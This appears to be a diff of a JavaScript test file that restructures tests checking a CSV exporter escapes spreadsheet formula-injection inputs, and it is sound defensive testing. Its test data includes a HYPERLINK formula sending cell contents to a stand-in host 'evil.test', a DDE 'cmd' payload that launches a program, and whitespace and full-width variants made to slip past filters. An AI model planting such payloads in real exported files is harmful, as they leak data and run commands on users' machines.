@@ -37,44 +37,42 @@ describe('toCsv', () => {
   });
 });
 
-describe('a text that a spreadsheet would run', () => {
-  test.each([
-    '=1+1',
-    '=HYPERLINK("http://evil.test?x="&A1,"Click")',
-    "=cmd|' /C calc'!A0",
-    '+27 82 555 0101',
-    '-2+3+cmd|x',
-    '@SUM(A1)',
-    '\t=1+1',
-    '\r=1+1',
-    '\n=1+1',
-    ' =1+1',
-    '\u{a0}=1+1',
-    '\u{feff}=1+1',
-    '＝1+1',
-    '＋1',
-    '－1',
-    '＠SUM(A1)',
-    '=1\n=2',
-    '","=1+1',
-  ])('is escaped: %j', (text) => {
-    expect(cell(text)).toMatch(/^[^=+\-@\t\r\n\s＝＋－＠\u{feff}]/u);
-    expect(cell(text)?.replace(/^'/u, '')).toBe(text);
-  });
+test.each([
+  '=1+1',
+  '=HYPERLINK("http://evil.test?x="&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  '+27 82 555 0101',
+  '-2+3+cmd|x',
+  '@SUM(A1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u{a0}=1+1',
+  '\u{feff}=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  '=1\n=2',
+  '","=1+1',
+])('a text that a spreadsheet would run is escaped: %j', (text) => {
+  expect(cell(text)).toMatch(/^[^=+\-@\t\r\n\s＝＋－＠\u{feff}]/u);
+  expect(cell(text)?.replace(/^'/u, '')).toBe(text);
+});
 
-  it('is escaped in headings', () => {
-    expect(read(toCsv(['=A1'], []))[0]).toEqual(["'=A1"]);
-  });
+it('a text that a spreadsheet would run is escaped in headings', () => {
+  expect(read(toCsv(['=A1'], []))[0]).toEqual(["'=A1"]);
+});
 
-  it('never starts a cell', () => {
-    fc.assert(
-      fc.property(
-        fc.array(fc.tuple(fc.string({ unit: 'binary', maxLength: 12 })), { maxLength: 20 }),
-        (rows) => {
-          const cells = read(toCsv(['A'], rows)).flat();
-          expect(cells.filter((text) => /^[=+\-@\t\r]/u.test(text))).toEqual([]);
-        },
-      ),
-    );
-  });
+it('a text that a spreadsheet would run never starts a cell', () => {
+  fc.assert(
+    fc.property(
+      fc.array(fc.tuple(fc.string({ unit: 'binary', maxLength: 12 })), { maxLength: 20 }),
+      (rows) => {
+        const cells = read(toCsv(['A'], rows)).flat();
+        expect(cells.filter((text) => /^[=+\-@\t\r]/u.test(text))).toEqual([]);
+      },
+    ),
+  );
 });
